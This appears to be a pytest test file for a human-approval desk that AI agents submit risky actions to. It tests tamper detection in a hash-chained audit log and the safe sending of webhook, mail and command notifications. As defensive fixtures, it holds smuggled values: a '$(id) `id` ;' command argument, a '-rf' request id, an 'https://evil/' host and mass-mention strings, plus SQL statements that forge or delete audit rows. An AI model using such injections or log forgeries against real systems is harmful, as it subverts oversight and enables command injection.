        return next(hitl.audit_faults(db, noted), None) is None
    except (sqlite3.DatabaseError, ValueError, KeyError, TypeError):
        return False


FORGED = ("INSERT INTO audit_log SELECT (SELECT max(sequence) + 1 FROM "
          "audit_log), at, '{}', subject, actor, detail, seal, hash FROM "
          "audit_log WHERE sequence = 1")
UNDECIDE = SET + ("status = 'waiting', decided_at = NULL, decided_by = NULL, "
                  "signed_in = NULL, reason = NULL WHERE status = 'rejected'")
TAMPERED = [
    *(f"DELETE FROM audit_log WHERE sequence {which}" for which in (
        "= 1", "= 7", "> 0")),
    "UPDATE audit_log SET sequence = sequence + 1000",
    "UPDATE audit_log SET detail = x'00' WHERE sequence = 3",
    *map(FORGED.format, ("approved", "claimed", "submitted")),
    "UPDATE audit_log SET (at, event, subject, actor, detail, hash) = "
    "(SELECT at, event, subject, actor, detail, hash FROM audit_log AS o "
    "WHERE o.sequence = 9 - audit_log.sequence) WHERE sequence IN (4, 5)",
    "DELETE FROM pending_reviews WHERE id = 3",
    SET + "action_description = 'x' WHERE id = 5", UNDECIDE,
    UNDECIDE + "; UPDATE audit_log SET event = 'submitted' "
    "WHERE event = 'rejected'"]
CUT_END = ("DELETE FROM audit_log WHERE subject = 'lapsed'; "
           "DELETE FROM pending_reviews WHERE request_id = 'lapsed'")


def test_promise_8_an_edited_log_shows(unlocked):
    """Delete, swap, insert or rename rows: verifying fails, even where
    the requests were edited to agree. A cut-off end, with its requests,
    shows against a head that was noted."""
    head = hitl.last_head(unlocked).hash

    def shows(sql, noted=""):
        unlocked.execute("BEGIN")
        for statement in sql.split("; "):
            assert unlocked.execute(statement).rowcount > 0
        whole = verifies(unlocked, noted)
        unlocked.execute("ROLLBACK")
        return not whole
    assert verifies(unlocked, head)
    assert [sql for sql in TAMPERED if not shows(sql)] == []
    assert not shows(CUT_END) and shows(CUT_END, head)


def test_promise_8_every_edited_column_shows(unlocked):
    """Edit any column of any row by hand, at its end or by a bit: verifying
    says which request or standing decision it was, or which audit row."""
    unlocked.execute("PRAGMA ignore_check_constraints = ON")
    unlocked.execute("PRAGMA foreign_keys = OFF")
    keys = {"pending_reviews": "request_id", "audit_log": "sequence",
            "standing_decisions": "number"}

    def edits_of(value):
        if isinstance(value, str) and value:
            return value + "1", chr(ord(value[0]) ^ 1) + value[1:]
        return (value + 1000,) if isinstance(value, int) else ("1",)
    unseen = []
    for table, key in keys.items():
        found = unlocked.execute(f"SELECT * FROM {table}")
        columns = [column for column, *_ in found.description]
        for row in found.fetchall():
            name = row[columns.index(key)]
            for column, value in zip(columns, row, strict=True):
                for edit in edits_of(value):
                    unlocked.execute("BEGIN")
                    unlocked.execute(f"UPDATE {table} SET {column} = ? WHERE "
                                     f"{key} = ?", (edit, name))
                    if not any(str(name) in fault for fault in
                               hitl.audit_faults(unlocked)):
                        unseen.append((table, name, column, edit))
                    unlocked.execute("ROLLBACK")
    assert unseen == []
    unlocked.execute("INSERT INTO votes VALUES ('waiting', 'reviewer:ana', "
                     "'approved', 'x', '', '')")
    assert '"waiting" has a vote' in next(hitl.audit_faults(unlocked))


def log_of(path, *words):
    """The `log` command -> exit status, what it printed."""
    with contextlib.redirect_stdout(io.StringIO()) as out:
        status = hitl.main(["log", "--database", str(path), *words])
    return status, out.getvalue()


def test_log_verify_says_whole_or_where(every, unlocked):
    """`log --verify` exits 0 and prints the head, or 1 and the faults."""
    head = hitl.last_head(unlocked)
    assert log_of(every, "--verify", "--head", head.hash) == (
        0, f"{every}: {head.sequence} rows, head {head.hash}: whole\n")
    status, out = log_of(every, "--verify", "--head", "f" * 64)
    assert status == 1 and "is not in the log: its end was cut off, " in out
    unlocked.execute("UPDATE audit_log SET at = at || '0' WHERE sequence = 3")
    status, out = log_of(every, "--verify")
    assert status == 1 and out.startswith(
        'FAULT audit row 3, about "edited", was changed')
    assert "damaged or edited" in out and "--head" in out
    assert log_of(every.with_name("none")) == log_of(every.parent) == (2, "")
    other = every.with_name("other")
    other.write_text("not a database, but as long as the header of one" * 50)
    status, out = log_of(other, "--verify")
    assert status == 1 and out == f"FAULT {other}: file is not a database\n"
    assert json.loads(log_of(other, "--json")[1]) == {"faults": [out[6:-1]]}
    unlocked.execute("PRAGMA user_version = 1")
    assert log_of(every, "--verify") == (2, "")     # 1.0 reads its own


def test_log_lists_every_change_beside_a_running_server(desk):
    """`log` prints a line per change, `--json` an object per line, also
    while the server runs."""
    desk.post()
    desk.decide("r-1", "rejected", reason="no")
    listed = command("log", "--database", str(desk.database)).stdout
    assert [line.split(" ")[2:5] for line in listed.splitlines()] == [
        ["submitted", "r-1", "agent:unauthenticated"],
        ["rejected", "r-1", "reviewer:ana"]]
    last = json.loads(log_of(desk.database, "--json")[1].splitlines()[1])
    assert (last["sequence"], last["event"], last["hash"]) == (
        2, "rejected", desk.store.head.hash)
    assert json.loads(last["detail"])["reason"] == "no"
    assert log_of(desk.database, "--verify")[0] == 0


# ================================= Notices =================================
# Real receivers on sockets: HTTP, SMTP with TLS, programs. `Pace` makes the
# delays of minutes short.

WHSEC = "whsec_" + base64.b64encode(b"k" * 24).decode()
SOON = hitl.Pace(pauses=(0.05, 0.05, 0.05, 0.05), window=0.3)


class Receiver(Wire):
    """Takes what is posted. Each answer is a status, or what comes of a path and
    a request; the last one is repeated."""

    def __init__(self, *answers) -> None:
        self.answers = list(answers) or [204]
        super().__init__(self.next_answer)
        self.url += "/"

    def next_answer(self, path: str, request: bytes):
        answer = self.answers[0]
        if len(self.answers) > 1:
            del self.answers[0]
        return answer(path, request) if callable(answer) else [http_reply(b"", answer)]

    def bodies(self) -> list:
        return [json.loads(body) for _, _, body in self.got]


def dripping(head: bytes, byte: bytes = b"x"):
    """An answer that begins so, and then goes on for two seconds."""
    def answer(path, request):
        yield head
        for _ in range(100):
            yield byte
            time.sleep(0.02)
    return answer


hang = dripping(b"", b"")


def reset(path, request):
    return [None]


def verified(headers, body) -> bool:
    """Whether a message is signed as Standard Webhooks 1.0.0 has it."""
    key = base64.b64decode(WHSEC.removeprefix("whsec_"))
    signed = f"{headers['webhook-id']}.{headers['webhook-timestamp']}.".encode()
    good = base64.b64encode(hmac.digest(key, signed + body, "sha256")).decode()
    return (abs(time.time() - int(headers["webhook-timestamp"])) < 300
            and f"v1,{good}" in headers["webhook-signature"].split(" "))


def toml(value) -> str:
    if not isinstance(value, dict):
        return json.dumps(value)
    return "{" + ", ".join(f"{json.dumps(key)} = {toml(item)}"
                           for key, item in value.items()) + "}"


def notify(name="phone", **keys) -> str:
    """A [[notify]] in TOML."""
    return "\n".join([f'\n[[notify]]\nname = "{name}"', *(
        f"{key.rstrip('_')} = {toml(value)}" for key, value in keys.items()), ""])


def channels(make_rules, text: str, pace=SOON, **environ) -> list:
    path = make_rules(RULES + text).path
    return [hitl.Channel(path, entry, environ, pace)
            for entry in hitl.load_configuration(path).notify]


def a_request(request_id="r-1", **fields):
    """A stored request, as hostile as one may be."""
    now = hitl.instant(time.time())
    values = dict.fromkeys(hitl.ReviewRequest._fields) | {
        "request_id": request_id, "status": "waiting", "received_at": now,
        "tool": 'x"]}\\ @everyone <!channel> https://evil/é', "agent": "-x\r\ny",
        "checkpoint_id": "delete-records", "category": "destructive",
        "deadline": hitl.instant(time.time() + 300), "arguments": "{}",
        "action_description": 'canary "of" the\nagent {title} ${HOME} \\ \U0001f514',
        "agent_context": "null", "asked_by": "agent:a"} | fields
    return hitl.ReviewRequest(**values)


@pytest.fixture
def tell(make_rules):
    """Tell the entries of a TOML text of requests -> [(name, ids, Answer)];
    tell.at says when each entry was first done with one."""
    def run(text, *requests, pace=SOON, count=1, **environ):
        done, run.at = [], {}

        def report(*result) -> None:
            done.append(result)
            run.at.setdefault(result[0], time.monotonic())
        notices = hitl.Notices(
            channels(make_rules, text, pace, **environ), make_rules(RULES),
            "https://desk.example", report)
        for request in requests or [a_request()]:
            notices.owe(request)
        assert until(lambda: len(done) >= count), done
        run.notices = notices
        return done
    return run


HTTPS = {"url": "https://x"}
TLS = {"smtp": "tls://m", "from": "a@b", "to": ["a@b"]}


@pytest.mark.parametrize("text, cure", [
    (notify(url="https://x") * 2, 'notify name "phone" appears twice'),
    (notify(url="https://x", body="@").replace('"@"', "{ a = nan }"), "is not JSON"),
    *((notify(**keys), cure) for keys, cure in (
        ({}, "exactly one of url, smtp, command"),
        (HTTPS | {"command": ["x"]}, "has url and command"),
        ({"url": "http://ntfy.sh/"}, "in clear text: write https://"),
        ({"url": "https://{agent}.example/"}, "a plain host"),
        ({"url": "https://u:p@example/"}, "a plain host"),
        ({"url": "https://127.0.0.1:99999/"}, "a plain host"),
        (HTTPS | {"body": "{"}, "is not JSON"),
        (HTTPS | {"body": "7"}, "an object or a list is needed"),
        (HTTPS | {"body": {"a": ["{titel}"]}},
         "unknown placeholder {titel}; known: title, text"),
        (HTTPS | {"body": {"a": "{titel}"}}, "did you mean title?"),
        (HTTPS | {"body": {"a": "{details}"}}, "set details = true"),
        (HTTPS | {"headers": {"a": "${A-B}"}}, "write ${NAME}"),
        (HTTPS | {"headers": {"a b": "c"}}, "Authorization"),
        (HTTPS | {"headers": {"a": 7}}, "Authorization"),
        (HTTPS | {"to": ["a@b"]}, "to: needs smtp in the same entry"),
        (HTTPS | {"after_seconds": -1}, "0 to 604800"),
        (HTTPS | {"category": ["bad"]}, "a list of high-impact"),
        (HTTPS | {"details": 1}, "true or false"),
        ({"smtp": "starttls://m"}, "smtp: needs from in the same"),
        ({"smtp": "plain://mail.example"}, "write starttls:// or tls://"),
        ({"smtp": "mail.example:25"}, "must be like"),
        (TLS | {"to": ["a@b\n"]}, "oncall@example"),
        (TLS | {"login": "x"}, "login: needs password in the"),
        ({"command": []}, "notify-send"), ({"command": "x {title}"}, "notify-send"),
        ({"command": ["{tool}"]}, "as an argument of its own"),
        ({"command": ["sh", "-c", "echo {text}"]}, "as an argument of its own"),
        ({"command": ["x"], "colour": 1}, 'unknown key "colour"')))], ids=rules_id)
def test_a_wrong_notify_says_place_and_cure(make_rules, text, cure):
    """What is wrong in a [[notify]] is a ConfigError that says where, and how
    to mend it."""
    with pytest.raises(hitl.ConfigError, match=re.escape(cure)) as error:
        make_rules(RULES + text)
    assert 'checkpoints.toml: notify ' in str(error.value)


@pytest.mark.parametrize("keys, value, cure", [
    ({"url": "https://x/${A}"}, "", "${A} is not set"),
    ({"url": "https://x/${A}"}, "secret\n", "${A} holds a line break"),
    ({"url": "${A}/x"}, "http://secret.example", "in clear text"),
    ({"url": "https://{agent}.example/${A}"}, "secret", "a plain host"),
    ({"url": "${A}"}, "secret.example/x", "must be like"),
    (TLS | {"smtp": "${A}"}, "plain://secret.example", "in clear text"),
    (HTTPS | {"sign": "${A}"}, "whsec_secret", "and base64"),
    (HTTPS | {"sign": "${A}"}, "whsec_", "and base64"),
    (HTTPS | {"sign": "${A}"}, WHSEC[6:], "and base64"),
    (HTTPS | {"sign": "${HITL_AGENT_TOKEN}"}, "secret", "a credential of this desk")])
def test_what_only_serve_resolves(make_rules, make_gate, keys, value, cure):
    """${NAME} is resolved by serve alone, which refuses a bad one without
    quoting it; a gate that reads the same file does not care."""
    make_gate("http://127.0.0.1:1", RULES + notify(**keys))
    with pytest.raises(hitl.ConfigError) as error:
        channels(make_rules, notify(**keys), A=value, HITL_AGENT_TOKEN=value)
    assert cure in str(error.value) and 'notify "phone"' in str(error.value)
    assert "secret" not in str(error.value) and WHSEC[6:] not in str(error.value)


ANSWERS = {                     # answers, tries, status, told
    "ok": ([200], 1, "200", True), "empty": ([204], 1, "204", True),
    "endless": ([dripping(b"HTTP/1.1 200 OK\r\n\r\n")], 1, "200", True),
    "silent": ([dripping(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\n", b"")],
               1, "200", True),
    "moved": ([302], 1, "302", False), "no": ([403], 1, "403", False),
    "elsewhere": ([307], 1, "307", False), "gone": ([410], 1, "410", False),
    "endless no": ([dripping(b"HTTP/1.1 403 No\r\n\r\n")], 1, "403", False),
    "garbled no": ([lambda *_: [b"HTTP/1.1 403 No\r\nTransfer-Encoding: chunked"
                                b"\r\n\r\nzz\r\n"]], 1, "403", False),
    "once": ([500, 204], 2, "204", True), "twice": ([408, 425, 204], 3, "204", True),
    "ill": ([500], 5, "500", False), "reset once": ([reset, 204], 2, "204", True),
    "reset": ([reset], 5, "ConnectionResetError|RemoteDisconnected", False),
    "hanging": ([hang, 204], 2, "204", True),
    "dripping": ([dripping(b"HTTP/1.1 200 OK\r\nX: "), 204], 2, "204", True)}


def test_the_answers_of_a_receiver(tell):
    """2xx is told; a transport error, 408, 425, 429 and 5xx are tried five
    times; any other answer is final, and no redirect is followed."""
    with contextlib.ExitStack() as stack:
        receivers = {name: stack.enter_context(Receiver(*answers))
                     for name, (answers, *_) in ANSWERS.items()}
        done = tell("".join(notify(name, url=receiver.url)
                            for name, receiver in receivers.items()),
                    pace=SOON._replace(patience=1.5), count=len(ANSWERS))
        for name, ids, answer in done:
            got, (_, tries, status, told) = receivers[name].got, ANSWERS[name]
            assert (name, ids, answer.told, len(got)) == (name, ["r-1"], told, tries)
            assert re.fullmatch(status, answer.status), name
            assert {path for path, _, _ in got} == {"/"}
            assert len({headers["webhook-id"] for _, headers, _ in got}) == 1
        for name in ("endless", "silent"):      # nobody waited for their ends
            assert tell.at[name] < tell.at["hanging"] - 0.5


def test_the_proxy_of_the_environment_is_used(tell, monkeypatch):
    """A notice goes through the proxy that the environment names."""
    with Receiver() as proxy:
        monkeypatch.setenv("http_proxy", proxy.url)
        tell(notify(url="http://localhost:9/x"))
        assert proxy.got[0][0] == "http://localhost:9/x"


def test_retry_after_is_minded(tell):
    """After a 429 the next try comes at least as many seconds later as
    Retry-After says, and for no other request earlier; nonsense is ignored."""
    def late(path, request):
        after = path.strip("/").replace("_", " ").encode()
        return [http_reply(b"", 429).replace(b"Location: /", b"Retry-After: " + after)]
    with Receiver(late, 204) as phone, Receiver(late, 204) as siem, Receiver(
            late, late, 204) as odd:
        start = time.monotonic()
        done = tell(notify(url=phone.url + "1", body={})
                    + notify("siem", url=siem.url + "1")
                    + notify("odd", url=odd.url + "-1")
                    + notify("date", url=odd.url + "Wed,_1_Jan_2098"),
                    a_request("r-1"), a_request("r-2"), count=7)
        assert all(answer.told for _, _, answer in done)
        assert min(tell.at["phone"], tell.at["siem"]) - start >= 1
    date = format_datetime(datetime.now(timezone.utc) + timedelta(seconds=100), True)
    assert 95 < hitl.retry_after(date) < 101 and hitl.retry_after("9" * 9) == 600


def test_the_event_is_signed(tell):
    """Without a body the event goes out, one a request, signed per Standard
    Webhooks, and without anything that the agent wrote."""
    with Receiver() as receiver:
        tell(notify(url=receiver.url + "{tool}?a={text}", sign="${KEY}"),
             *map(a_request, "abc"), count=3, KEY=WHSEC)
        for path, headers, body in receiver.got:
            assert verified(headers, body)
            assert re.fullmatch(r"/x_____[A-Za-z0-9_]+\?a=tool%3A%20"
                                r"[A-Za-z0-9%._-]+", path)
        assert not verified(headers, body + b" ")
        event = receiver.bodies()[0]
    assert event["type"] == "request.waiting"
    assert set(event["data"]) == set(hitl.NOTICE_FIELDS)
    tool = re.sub("[^A-Za-z0-9]", "_", a_request().tool)
    assert event["data"].items() >= {
        "title": f"{tool} waits for a decision", "tool": tool, "agent": "_x__y",
        "url": "https://desk.example/review/a", "request_id": "a",
        "status": "waiting", "checkpoint": "delete_records",
        "category": "destructive"}.items()
    assert "canary" not in str(event)


def test_a_body_is_filled_in_its_texts(tell):
    """Placeholders are filled in string leaves, in one pass; one alone keeps
    its type; with details the description goes out, and never as a
    placeholder. A delay counts from when the request came in, and a category
    that is not one of ours is left out. A try that failed is repeated before
    the window of a burst is over."""
    body = {"a": "{title}: {details}", "b": ["{waiting}", 7, None, {"c": "{deadline}"}],
            "${A}": "${A} {nothing", "d": "{text} {waiting}", "e": "{category}"}
    with Receiver(500, 204) as receiver:
        tell(notify(url=receiver.url, body=json.dumps(body), details=True,
                    headers={"Title": "{details} é\u2192", "X": "${A}"},
                    after_seconds=60), a_request(
            deadline=None, checkpoint_id="other", category="https://evil",
            received_at=hitl.instant(time.time() - 60)),
            pace=SOON._replace(window=60), A="{title}")
        (_, headers, _), = receiver.got[1:]
        got = receiver.bodies()[1]
    assert got["e"] == "" and got["b"] == [1, 7, None, {"c": None}]
    assert got["${A}"] == "{title} {nothing" and got["d"].endswith("no deadline 1")
    assert 'canary "of" the \u21b5 agent {title} ${HOME} \\' in got["a"]
    assert headers["X"] == "{title}" and headers["Title"].startswith('canary "of"')
    assert "Content-Type" in headers and "webhook-id" not in headers


def test_no_try_after_it_stopped_waiting(tell):
    """A request that stopped waiting is not tried again, nor for the first time
    with the others of its burst, and the log says so; one whose delay had not
    come is owed nothing. Of what waits no more is kept than can be told."""
    with Receiver(500) as receiver:
        done = tell(notify(url=receiver.url, body={}) + notify(
            "later", url=receiver.url, after_seconds=60),
            pace=hitl.Pace(pauses=(60,), window=600), count=0)
        phone, later = tell.notices.channels
        assert until(lambda: "r-1" in phone.jobs and phone.jobs["r-1"].tries == 1)
        assert until(lambda: 50 < phone.quiet_until - time.monotonic() < 70)
        tell.notices.owe(a_request("r-2", action_description="x" * 9999))
        assert until(lambda: "r-2" in later.jobs)
        assert len(str(later.jobs["r-2"].request)) < 2000
        tell.notices.follow(None, [hitl.Change("rejected", each, "", "")
                                   for each in ("r-1", "r-2")])
        assert until(lambda: len(done) == 2 and not later.jobs)
        assert done == [("phone", [each], hitl.Answer(
            False, "it stopped waiting first")) for each in ("r-1", "r-2")]
        assert len(receiver.got) == 1


def test_a_command_gets_arguments_and_no_credential(tell, tmp_path, monkeypatch):
    """A command gets its argv as it is, the event on stdin, no token of the
    desk, and no option that an agent chose."""
    monkeypatch.setenv("HITL_REVIEWER_TOKEN", "canary-1")
    monkeypatch.setenv("HITL_AGENT_TOKEN", "canary-2")
    out = tmp_path / "out"
    script = (f"import json, os, sys; open({str(out)!r}, 'w').write(json.dumps("
              "[sys.argv[1:], json.load(sys.stdin), dict(os.environ)]))")
    (_, _, answer), = tell(notify(command=[
        sys.executable, "-c", script, "--", "{request_id}", "a {title}",
        "$(id) `id` ;"]), a_request("-rf"))
    assert answer == hitl.Answer(True, "exit 0") and tell.notices.channels[0].bundles
    argv, event, environ = json.loads(out.read_text())
    assert argv[1:] == [" -rf", f"a {event['data']['title']}", "$(id) `id` ;"]
    assert event["data"]["request_id"] == "-rf" and "canary" not in str(environ)


@pytest.mark.parametrize("argv, status, text", [
    ([sys.executable, "-c", "print('no'); raise SystemExit(3)"], "exit 3", "no"),
    ([sys.executable, "-c", "import time; time.sleep(60)"], "TimeoutE.*", ""),
    (["/no/such/program"], "FileNotFoundError", "")])
def test_a_command_that_fails_is_final(tell, argv, status, text):
    """Any end of a command but exit 0 is final, one that hangs too."""
    (_, _, answer), = tell(notify(command=argv), pace=SOON._replace(
        patience=0.5 if "Timeout" in status else 10))
    assert re.fullmatch(status, answer.status)
    assert (answer.told, answer.text, answer.again) == (False, text, False)


# ---- with a desk ----

def notified(desk, count=1):
    """The rows of notices in the log, once there are so many: (event, request,
    detail)."""
    def rows():
        with hitl.open_for_reading(desk.folder / "hitl.db") as db:
            found = db.execute("SELECT event, subject, detail FROM audit_log WHERE "
                               "event LIKE '%notified' ORDER BY sequence").fetchall()
        return found if len(found) >= count else None
    return [(event, subject, json.loads(detail))
            for event, subject, detail in until(rows) or []]


@pytest.fixture
def start_notices(desk, make_rules):
    """Give the desk these entries."""
    def run(text, **environ) -> None:
        desk.server.asyncio_loop.call_soon_threadsafe(
            desk.server.start_notices, channels(make_rules, text, SOON, **environ),
            make_rules(RULES + text))
    return run


def test_each_outcome_is_in_the_log_and_a_failure_is_marked(desk, start_notices):
    """Within a second of the 201 each entry has told, or failed, if its filters
    let the request through, by the category that serve's own file has; the log
    has a row of each, and a failure is a line of serve and a mark on the card."""
    with Receiver() as good, Receiver(403) as bad:
        start_notices(
            notify("bad", url=bad.url)
            + notify("good", url=good.url, category=["destructive"])
            + notify("also", url=good.url, checkpoint=["delete-records"])
            + notify("never", url=good.url, category=["data-risk"])
            + notify("other", url=good.url, checkpoint=["other"]))
        desk.post("r-1")
        start = time.monotonic()
        desk.post("r-2", checkpoint_id="delete-records", category="data-risk")
        rows = notified(desk, 4)
        assert time.monotonic() - start < 2
        assert len({headers["webhook-id"] for _, headers, _ in good.got}) == 2
    why, told = {"name": "bad", "why": "403"}, ["notified", "r-2"]
    assert sorted(map(list, rows), key=str) == [
        ["not-notified", "r-1", why], ["not-notified", "r-2", why],
        [*told, {"name": "also", "status": "204"}],
        [*told, {"name": "good", "status": "204"}]]
    assert until(lambda: "r-1: bad: 403, nobody was told" in str(desk.lines))
    page = desk.page()
    assert "bad: 403, nobody was told" in page
    assert re.search("bad: 403, (good and also|also and good) were told", page)
    desk.agent().exchange("POST", "/withdraw/r-1", {"why": "timeout"}, seconds=10)
    assert "bad: 403, nobody was told" in desk.page("/review/r-1")     # and expired
    with hitl.open_for_reading(desk.database) as db:
        assert verifies(db)


def test_a_burst_rings_once(desk, start_notices):
    """Of a burst the first is told at once and the others together when the
    window is over, also where that fails; an event without a body is never
    bundled. Each request has a row for each entry."""
    body = {"title": "{title}", "url": "{url}", "newest": "{request_id}",
            "agent": "{agent}"}
    with Receiver() as phone, Receiver(403) as bad, Receiver() as siem:
        start_notices(notify(url=phone.url, body=body, sign=WHSEC)
                      + notify("bad", url=bad.url, body=body)
                      + notify("siem", url=siem.url))
        start = time.monotonic()
        desk.post("r-0")
        assert until(lambda: phone.got and bad.got)
        for n in range(1, 50):
            desk.post(f"r-{n}", agent=f"agent-{n % 3}")
        rows = notified(desk, 150)
        windows = (time.monotonic() - start) / SOON.window
        assert len({(subject, detail["name"]) for _, subject, detail in rows}
                   ) == len(rows) == 150
        for receiver in (phone, bad):
            assert 2 <= len(receiver.got) <= windows + 2
            first, *_, last = receiver.bodies()
            assert first["newest"] == "r-0" and last["newest"] == "r-49"
            assert any(re.fullmatch("[0-9]+ requests wait", each["title"])
                       and each["url"] == f"{desk.url}/" and each["agent"] == "several"
                       for each in receiver.bodies())
        assert len(siem.got) == 50
        assert all(verified(headers, body) for _, headers, body in phone.got)
    many = [a_request(deadline=f"2099-01-0{day}T12:00:00.000Z") for day in (2, 1, 3)]
    assert " at 12:00:00 UTC" in hitl.notice_fields(many, "", 3)["text"]
    assert hitl.notice_fields(many, "", 3)["deadline"] == many[1].deadline


def test_a_hanging_receiver_holds_up_nobody(desk, start_notices):
    """While one receiver hangs, no POST waits, and another entry is told."""
    with Receiver(hang) as stuck, Receiver() as well:
        start_notices(notify("stuck", url=stuck.url) + notify("well", url=well.url))
        seconds = []
        for n in range(20):
            start = time.monotonic()
            assert desk.post(f"r-{n}").status == 201
            seconds.append(time.monotonic() - start)
        assert sorted(seconds)[10] < 0.1
        assert until(lambda: stuck.got and len(well.got) == 20, 4)


def test_tries_that_hang_are_few(make_rules, monkeypatch):
    """Of one entry five tries at most hang at once: here no name is found."""
    asked, found = [], threading.Event()

    def getaddrinfo(*where):
        asked.append(where)
        found.wait(60)
        raise OSError
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    channel, = channels(make_rules, notify(url="http://localhost:9/"),
                        hitl.Pace(patience=0.01))
    statuses = {channel.tell([a_request()], "", 1).status for _ in range(8)}
    assert statuses == {"TimeoutError"} and until(lambda: len(asked) == 5)
    found.set()


def test_a_try_without_a_thread_is_a_failed_try(make_rules, monkeypatch):
    """Where the system has no thread left, the try has failed and is repeated."""
    channel, = channels(make_rules, notify(command=["true"]), SOON)

    def start(thread) -> None:
        raise RuntimeError("can't start new thread")
    with monkeypatch.context() as patched:
        patched.setattr(threading.Thread, "start", start)
        assert not channel.tell([a_request()], "", 1).told
    assert channel.tell([a_request()], "", 1).told


def test_what_was_decided_is_not_told(desk, start_notices):
    """A reminder is for what still waits: what was decided, also in its own
    submit, is not told."""
    with Receiver() as receiver:
        start_notices(notify(url=receiver.url, after_seconds=0.3))
        desk.post("r-1")
        desk.post("r-2")
        desk.decide("r-1")
        assert notified(desk) == [
            ("notified", "r-2", {"name": "phone", "status": "204"})]
        desk.server.notices.follow(
            desk.store, [hitl.Change("submitted", "r-1", "agent:a", "")])
        channel = desk.server.notices.channels[0]
        assert channel.inbox.empty() and not channel.jobs


def test_promise_9_what_is_owed_is_told_once(tmp_path):
    """Killed between request and notice, serve tells of it after the restart,
    exactly once."""
    with Receiver() as receiver:
        def write_rules(after_seconds) -> None:
            (tmp_path / "checkpoints.toml").write_text(RULES + "".join(notify(
                name, url=receiver.url, after_seconds=after_seconds)
                for name in ("phone", "siem")))
        write_rules(600)
        served = Served(tmp_path)
        served.agent().exchange("POST", "/pending", four("r-1"), seconds=10)
        served.stop(signal.SIGKILL)
        assert not receiver.got
        write_rules(0)
        served.start()
        assert len(notified(served, 2)) == 2
        served.stop(signal.SIGKILL)
        served.start()                  # what it owed would be told before r-2
        served.agent().exchange("POST", "/pending", four("r-2"), seconds=10)
        rows = notified(served, 4)
        served.stop()
        told = [body["data"]["request_id"] for body in receiver.bodies()]
        assert told == ["r-1"] * 2 + ["r-2"] * 2 == [row[1] for row in rows]


def test_no_secret_shows_anywhere(tmp_path):
    """No value of a ${NAME} in any of its forms is on stdout or stderr, on a
    page, in the log or in an error, whatever a receiver answers; of that 200
    characters are kept, and visible."""
    def echo(path, request):
        secret = secrets["B"]
        text = (path + secret + json.dumps(secret) + urlencode({"": secret})
                + "\x1b[2J\u202e" + "z" * 900)
        return [http_reply(text.encode(), 403)]
    secrets = {"A": "cana/ry+1", "B": 'cana"ry\\2', "C": "canary three"}
    with Receiver(echo) as receiver:
        (tmp_path / "checkpoints.toml").write_text(RULES + notify(
            url=receiver.url + "${A}", headers={"X": "${B}"},
            body={"a": "${C}"}) + notify(
            "gone", url="http://127.0.0.1:1/${A}", body={"a": "${C}"}))
        served = Served(tmp_path, **secrets)
        served.agent().exchange("POST", "/pending", four(), seconds=10)
        assert until(lambda: "phone: 403, nobody was told" in served.text)
        page = served.reviewer().fetch("GET", "/", seconds=10,
                                       Accept="text/html")[2].decode()
        served.stop()
        done = typed(tmp_path, "notify", "--test", **secrets)
        assert done.status == 1
        phone, gone = done.out.splitlines()
        assert phone.startswith('phone: 403: /******"***"=***')
        assert 196 < len(phone.removeprefix("phone: 403: ").encode()) <= 200
        assert gone == "gone: ConnectionRefusedError"
        log = typed(tmp_path, "log", "--json").out
        assert "/******" in log and "403" in log
        refused = typed(tmp_path, "serve", **secrets | {"A": "canary\nx"}).err
        assert not re.search(r"cana|ry.{1,4}[12]|u001b|u202e|\x1b|\u202e", page
                             + served.text + str(done) + log + refused)


def test_notify_test_sends_what_is_hard_to_send(desk):
    """`notify --test` sends quotes, a line break, a backslash and an emoji
    through all entries or one, once, and says what came back."""
    with Receiver(lambda *_: [http_reply(b"ok")], 500) as receiver:
        (desk.folder / "checkpoints.toml").write_text(
            RULES + notify(url=receiver.url, body={"a": "{text}"})
            + notify("screen", command=[
                sys.executable, "-c", "import sys; print(sys.argv[1])", "{text}"]))
        assert typed(desk, "notify", "--test", "phone") == (0, "phone: 200: ok\n", "")
        text = receiver.bodies()[0]["a"]
        assert all(c in text for c in ('"', "\n", "\\", "\U0001f514"))
        status, out, _ = typed(desk, "notify", "--test")
        assert status == 1 and "phone: 500\n" in out and "screen: exit 0: " in out
        assert len(receiver.got) == 2
        status, _, err = typed(desk, "notify", "--test", "phon")
        assert status == 2 and "did you mean phone?" in err


def test_check_warns_of_a_doubtful_notify(tmp_path):
    """check warns of a secret that is written out, of a link that no phone can
    follow, and of a filter by a checkpoint that is not there."""
    def warnings(server="", **keys):
        (tmp_path / "checkpoints.toml").write_text(server + RULES + notify(**keys))
        status, out, _ = typed(tmp_path, "check")
        assert status == 0
        return out
    assert "phone\": public_url is empty" in warnings(**HTTPS)
    assert "warning" not in warnings('[server]\npublic_url = "https://d.example"\n',
                                     **HTTPS, headers={"X-Key": "${A}"})
    assert "warning" not in warnings(command=["notify-send", "{title}"])
    for keys in ({"url": "https://x/T0123ABCD/0123456789abcdefABCDEF"},
                 HTTPS | {"headers": {"Authorization": "Bearer x"}},
                 HTTPS | {"body": {"token": "abc"}}, HTTPS | {"sign": WHSEC},
                 HTTPS | {"body": {"routing_key": "a"}},
                 HTTPS | {"body": {"tokens": ["abc"]}}):
        assert "a secret is written out" in warnings(**keys)
    assert "did you mean delete-records?" in warnings(
        **HTTPS, checkpoint=["delete-record"])


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                    reason="only root can give a file away")
def test_a_file_that_another_user_owns_is_refused(serve, tmp_path):
    """serve refuses a file with [[notify]] or [[reviewer]] that belongs to
    another user, and one with a command that its group can write."""
    rules, key = tmp_path / "checkpoints.toml", {"HITL_REVIEWER_TOKEN": REVIEWER_TOKEN}
    rules.write_text(RULES + notify(command=["true"]))
    rules.chmod(0o664)
    assert "runs a command from it" in serve(**key)[1]
    rules.chmod(0o644)
    assert "cannot listen" in serve(**key)[1]
    os.chown(rules, 12345, -1)
    assert "belongs to another user" in serve(**key)[1]
    rules.write_text(RULES)
    assert "cannot listen" in serve(**key)[1]


README = (HERE / "README.md").read_text()


def test_the_notices_of_the_readme(tmp_path):
    """The README has an entry for each receiver that it names. Each is taken as
    it is, and becomes valid JSON with nothing of a hostile event but its fields."""
    entries = [entry for block in re.findall(r"(?s)```toml\n(.*?)```", README)
               for entry in tomllib.loads(block).get("notify", ())]
    assert {entry["name"] for entry in entries} >= {
        "slack", "discord", "teams", "telegram", "ntfy", "gotify", "pushover",
        "siem", "mail", "screen"}
    fields = hitl.notice_fields([a_request()], "https://desk.example", 1)
    assert len(fields["title"]) <= 100 and len(fields["text"]) <= 900
